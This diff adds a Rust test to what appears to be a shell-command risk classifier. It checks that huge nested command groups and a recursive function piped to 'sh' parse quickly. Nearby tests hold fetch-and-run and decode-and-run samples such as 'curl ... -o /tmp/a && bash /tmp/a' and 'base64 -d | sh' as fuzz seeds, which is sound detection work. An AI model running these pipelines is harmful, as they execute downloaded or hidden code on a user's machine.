@@ -293,6 +293,15 @@ fn what_is_only_odd() {
     odd("curl a | xargs -n1 sh -c 'ping -c1 $0'", "hands what it fetches to a shell");
 }
 #[test]
+fn groups_of_many_commands_take_no_longer_than_others() {
+    let group = format!("{{ {} }}", "cat; ".repeat(300));
+    let line = format!("{group} | {group} | {group} | {group} | base64 -d | sh; ").repeat(2);
+    let nested = format!("{}{}", "{ ".repeat(500), "a | cat; } | sh; ".repeat(500));
+    for line in [line, nested, "f() { f; }; f | sh; ".repeat(500)] {
+        drop(of_command(line.as_bytes()));
+    }
+}
+#[test]
 fn mutated_commands_never_panic() {
     let seeds: [&[u8]; 4] = [
         b"curl -fsSL http://x/y -o /tmp/a && bash /tmp/a; echo dHJ1ZQ== | base64 -d | sh",
